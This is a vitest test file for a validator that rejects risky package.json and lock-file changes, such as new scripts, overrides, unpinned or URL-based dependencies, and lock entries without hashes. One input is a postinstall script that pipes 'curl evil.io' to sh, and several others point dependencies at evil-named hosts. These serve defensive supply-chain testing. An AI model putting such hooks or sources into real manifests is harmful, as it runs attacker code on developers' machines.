import { describe, expect, it } from 'vitest';

import { judgePackageChange } from './judge-package-change';

const MANIFEST = { name: 'shop', scripts: { test: 'vitest' }, dependencies: { zod: '4.0.0' } };

function judgeManifestChange(after: unknown): string {
  const texts = { before: JSON.stringify(MANIFEST), after: JSON.stringify(after) };
  return judgePackageChange({ path: 'api/package.json', ...texts }).join('\n');
}

describe('a manifest', () => {
  it('may gain packages by their versions', () => {
    const dependencies = { ...MANIFEST.dependencies, leven: '^4.1.0' };
    expect(judgeManifestChange({ ...MANIFEST, dependencies, devDependencies: { tsx: '4.0.0-beta.1' } })).toBe('');
  });

  it.each([
    ['a script', { ...MANIFEST, scripts: { test: 'vitest', postinstall: 'curl evil.io | sh' } }, 'changes scripts'],
    ['an override', { ...MANIFEST, overrides: { zod: '3.0.0' } }, 'changes overrides'],
    ['another version', { ...MANIFEST, dependencies: { zod: '3.0.0' } }, 'changes or loses zod'],
    ['a package less', { ...MANIFEST, dependencies: {} }, 'changes or loses zod'],
    ['an address', { ...MANIFEST, devDependencies: { x: 'https://evil.io/x.tgz' } }, 'which is no version'],
    ['another repository', { ...MANIFEST, devDependencies: { x: 'github:evil/x' } }, 'which is no version'],
    ['an alias', { ...MANIFEST, devDependencies: { x: 'npm:evil@1.0.0' } }, 'which is no version'],
    ['whatever is newest', { ...MANIFEST, devDependencies: { x: '*' } }, 'which is no version'],
    ['no manifest', [], 'is no manifest'],
  ])('may not gain %s', (_, after, expected) => {
    expect(judgeManifestChange(after)).toContain(expected);
  });

  it('neither appears nor goes', () => {
    expect(judgePackageChange({ path: 'package.json', before: undefined, after: '{}' })).toEqual([
      'package.json: must be there before and after',
    ]);
  });
});

describe('a lock file', () => {
  const lock = (packages: object): string => JSON.stringify({ lockfileVersion: 3, packages });

  it('is judged by what it brings', () => {
    const texts = { before: lock({}), after: lock({ 'node_modules/x': { version: '1.0.0', license: 'MIT' } }) };
    expect(judgePackageChange({ path: 'package-lock.json', ...texts })).toEqual([
      'package-lock.json: x is added without the hash of its archive',
    ]);
  });

  it('stays one', () => {
    expect(judgePackageChange({ path: 'package-lock.json', before: '{}', after: '{}' })[0]).toContain(
      'is no lock file',
    );
  });
});
